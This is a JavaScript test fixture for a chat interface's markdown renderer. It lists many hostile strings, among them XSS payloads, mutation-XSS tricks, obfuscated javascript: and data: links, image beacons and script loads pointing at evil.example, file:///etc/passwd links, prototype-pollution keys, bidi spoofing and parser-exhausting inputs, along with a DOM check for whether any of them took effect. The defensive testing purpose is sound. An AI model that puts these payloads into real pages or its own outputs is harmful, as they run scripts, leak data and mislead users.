// What a model might write to get at the page: each has to end as a text that is read, and nothing else. `hacked` is
// what a script that runs would leave behind; evil.example is where a request would go.

const HACK = "window.hacked=(window.hacked||0)+1";
const BIDI = "\u202e\u2066";

export const HOSTILE = {
  // Scripts and handlers, as HTML
  "a script": `<script>${HACK}</script>`,
  "a script from elsewhere": '<script src="https://evil.example/x.js"></script>',
  "a script that is never closed": `<script>${HACK}`,
  "a script in capitals with a line break": `<SCRIPT\n>${HACK}</SCRIPT\n>`,
  "a picture that fails": `<img src=x onerror="${HACK}">`,
  "a picture that fails, without quotes": `<img src=x onerror=${HACK}//`,
  "a picture with a slash for a blank": `<img/src="x"/onerror=${HACK}>`,
  "an svg that loads": `<svg onload="${HACK}"><circle r=9 /></svg>`,
  "an svg with a script": `<svg><script>${HACK}</script></svg>`,
  "an svg that uses another": '<svg><use href="https://evil.example/x.svg#x"></use></svg>',
  "an svg animation of a link": `<svg><a><animate attributeName=href values=javascript:${HACK} /><text y=9>x</text></a></svg>`,
  "an svg's foreign object": `<svg><foreignObject><body onload="${HACK}"></body></foreignObject></svg>`,
  "an iframe": `<iframe src="javascript:parent.${HACK}"></iframe>`,
  "an iframe with a document": `<iframe srcdoc="<script>parent.${HACK}</script>"></iframe>`,
  "an object and an embed": `<object data="data:text/html,<script>${HACK}</script>"></object><embed src="https://evil.example/">`,
  "details that open": `<details open ontoggle="${HACK}"><summary>x</summary></details>`,
  "a field that takes the focus": `<input autofocus onfocus="${HACK}">`,
  "a video's source": `<video><source onerror="${HACK}"></video>`,
  "a marquee": `<marquee onstart="${HACK}">x</marquee>`,
  "a body that loads": `<body onload="${HACK}" onpageshow="${HACK}">`,
  "math's mutation": `<math><mtext><table><mglyph><style><img src onerror="${HACK}">`,
  "noscript's mutation": `<noscript><p title="</noscript><img src=x onerror=${HACK}>">`,
  "a template": `<template><img src=x onerror="${HACK}"></template>`,
  "a comment's end": `<!--><img src=x onerror="${HACK}">-->`,
  "a CDATA section": `<![CDATA[<img src=x onerror="${HACK}">]]>`,
  "a processing instruction": `<?xml-stylesheet href="https://evil.example/x.css"?>`,
  "markup by entities": `&lt;img src=x onerror="${HACK}"&gt; &#60;script&#62;${HACK}&#60;/script&#62;`,
  "a textarea's end": `</textarea></div></li></ol><script>${HACK}</script>`,
  "a meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "a base": '<base href="https://evil.example/">',
  "a form": '<form action="https://evil.example/"><button>Send</button></form>',
  "a link to a style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
  "a preload": '<link rel="preload" as="script" href="https://evil.example/x.js">',
  "a style": "<style>body{display:none}*{background:url(https://evil.example/x)}</style>",
  "a style attribute": '<p style="position:fixed;inset:0;background:red">x</p>',
  "names of the page":
    '<form id="prompt" name="body"></form><img id="status" name="getElementById">',
  // Links
  "a javascript link": `[x](javascript:${HACK})`,
  "a javascript link in capitals": `[x](JaVaScRiPt:${HACK})`,
  "a javascript link with a tab": `[x](java&Tab;script:${HACK}) [x](java&#9;script:${HACK})`,
  "a javascript link by entities": `[x](&#106;avascript&colon;${HACK})`,
  "a javascript link by percents": `[x](javascript%3A${HACK}) [x](%6aavascript:${HACK})`,
  "a javascript link behind a control": `[x](\u0001javascript:${HACK}) [x](&#1;javascript:${HACK})`,
  "a javascript link in angles": `<javascript:${HACK}> <JAVASCRIPT:${HACK}>`,
  "a javascript link by reference": `[x][a]\n\n[a]: javascript:${HACK}`,
  "a vbscript link": "[x](vbscript:msgbox)",
  "a data link": `[x](data:text/html,<script>${HACK}</script>)`,
  "a data link in base64": "[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)",
  "a blob, a file and a frame":
    "[x](blob:http://localhost/1) [x](file:///etc/passwd) [x](view-source:x)",
  "a link whose title breaks out": `[x](https://evil.example/ "\\" onmouseover=\\"${HACK}")`,
  "a link whose address breaks out": `[x](https://evil.example/"onmouseover="${HACK})`,
  "a link to the server's own routes": "[x](/metrics) [x](/v1/models) [x](#prompt) [x](?q)",
  "a link that shows another": "[https://bank.example](https://evil.example/)",
  "a link with a user": "[x](https://bank.example@evil.example/)",
  // Pictures
  "a picture from elsewhere": "![x](https://evil.example/x.png?secret=1)",
  "a picture by reference": "![x][a]\n\n[a]: https://evil.example/y.png",
  "a picture in a link": "[![x](https://evil.example/z.png)](https://evil.example/)",
  "a picture with the scheme left out": "![x](//evil.example/x.png)",
  "an svg as a picture": `![x](data:image/svg+xml,<svg onload="${HACK}" xmlns="http://www.w3.org/2000/svg"/>)`,
  "a javascript picture": `![x](javascript:${HACK})`,
  "a picture whose words break out": `![" onerror="${HACK}](https://evil.example/x.png)`,
  // Markdown against the parser
  "an unclosed fence": `\`\`\`html\n<script>${HACK}</script>`,
  "a fence's language that breaks out": `\`\`\`"><img src=x onerror=${HACK}>\nx\n\`\`\``,
  "a fence in a list in a quote": `> - \`\`\`\n>   <script>${HACK}</script>\n> x`,
  "code that ends early": `\`<img src=x onerror=${HACK}>\` \`\`<b>\`\``,
  "markup within emphasis": `**<img src=x onerror="${HACK}">** *<script>${HACK}</script>*`,
  "markup in a table": `| <img src=x onerror="${HACK}"> | b |\n|:-:|--:|\n| <script>${HACK}</script> | [x](javascript:${HACK}) |`,
  "a table's alignment that breaks out": '| a |\n|:-" style="x:-|\n| b |',
  "headings and rules": `# <img src=x onerror=${HACK}>\n\n<b>x</b>\n---\n***`,
  "a list's number": "99999999999999999999. x\n\n123456789) y",
  "an autolink that breaks out": `<https://evil.example/"onclick=${HACK}//>`,
  "a bare address": `https://evil.example/"><script>${HACK}</script> www.evil.example x@evil.example`,
  "quotes within quotes": `${">".repeat(2000)} x`,
  "brackets within brackets": `${"[".repeat(5000)}x${"](https://evil.example)".repeat(50)}`,
  "stars without an end": "*a_ ".repeat(5000),
  "backticks of many lengths": Array.from({ length: 300 }, (_, i) => "`".repeat(i + 1)).join(" "),
  "lists within lists": Array.from({ length: 200 }, (_, i) => `${"  ".repeat(i)}- x`).join("\n"),
  "definitions of prototypes":
    "[__proto__] [constructor] [toString]\n\n[__proto__]: https://evil.example/1\n[constructor]: javascript:1\n[toString]: data:x",
  "entities of prototypes": "&__proto__; &constructor; &toString; &hasOwnProperty;",
  // Text that is not what it looks like
  "text that runs backwards": `${BIDI}drowssap\u2069 [${BIDI}x](https://evil.example/${BIDI})`,
  "code that runs backwards": `\`\`\`js\nif (isAdmin) {${BIDI} /* begin */\n\`\`\`\n\n\`a${BIDI}b\``,
  "controls and what is no character":
    "a\u0000b\u0007c\u001b[31md\ufeff\ufffe\ud800e\u2028f\u2029g",
  "marks upon marks": `Z${"\u0300\u0301\u0302\u0303".repeat(500)}`,
  "a word without an end": "x".repeat(20_000),
  "lines without an end": "y\n".repeat(5000),
  "carriage returns": `a\r\rb\r\n<script>${HACK}</script>\r`,
};

/** Of a page's rendered texts: what is not allowed there, in words. Runs in the page. */
export function findViolations() {
  const allowed = {
    "": ["class", "dir"],
    a: ["href", "target", "rel", "referrerpolicy", "title"],
    ol: ["start"],
    pre: ["tabindex", "role", "aria-label"],
    div: ["tabindex", "role", "aria-label", "aria-hidden"],
    button: ["type", "title", "aria-label", "data-told"],
    span: ["title"],
    li: ["aria-busy"],
    details: ["open"],
    textarea: ["aria-label", "placeholder"],
    ...{ svg: ["viewBox", "aria-hidden"], path: ["d"], img: ["src", "alt"] },
  };
  const tags = new Set(
    `A BLOCKQUOTE BR BUTTON CODE DD DETAILS DIV DL DT EM FIGCAPTION FIGURE FORM H3 H4 H5 H6 HR LI OL P PRE S SPAN
    STRONG SUMMARY TABLE TBODY TD TEXTAREA TH THEAD TR UL path svg`.split(/\s+/),
  );
  const classes = new Set(
    `actions assistant aside badge body center code control dead-link failure foot left line markdown message note
    plain primary quiet reasoning right running scroll shown state text tool user`.split(/\s+/),
  );
  const found = [];
  for (const element of document.querySelectorAll("#chat *, #conversations *, #status *")) {
    const { tagName } = element;
    if (!tags.has(tagName)) found.push(`<${tagName}>`);
    for (const { name, value } of element.attributes) {
      const own = allowed[tagName.toLowerCase()] ?? [];
      const inHistory =
        element.closest("#conversations") && ["title", "aria-current"].includes(name);
      if (!allowed[""].includes(name) && !own.includes(name) && !inHistory) {
        found.push(`${tagName} ${name}="${value}"`);
      }
      if (name === "class") {
        for (const one of value.split(/\s+/)) {
          if (!classes.has(one) && !(inHistory || element.closest("#conversations"))) {
            found.push(`class ${one}`);
          }
        }
      }
    }
    if (tagName === "A" && !/^(https?|mailto):/.test(element.protocol)) found.push(element.href);
    if (tagName === "A" && element.origin === location.origin) found.push(element.href);
    if (tagName === "A" && element.rel !== "noopener noreferrer nofollow") found.push(element.rel);
  }
  if ("hacked" in window) found.push("a script has run");
  if (Object.keys(Object.prototype).length > 0) found.push("the prototype of objects has changed");
  if (document.title !== "Cria") found.push(`the title is ${document.title}`);
  const { display, backgroundImage, position } = getComputedStyle(document.body);
  if (display !== "grid" || backgroundImage !== "none" || position !== "static") {
    found.push("the page's style has changed");
  }
  if (document.styleSheets.length !== 1 || document.scripts.length !== 2) {
    found.push("there are other styles or scripts");
  }
  return found;
}
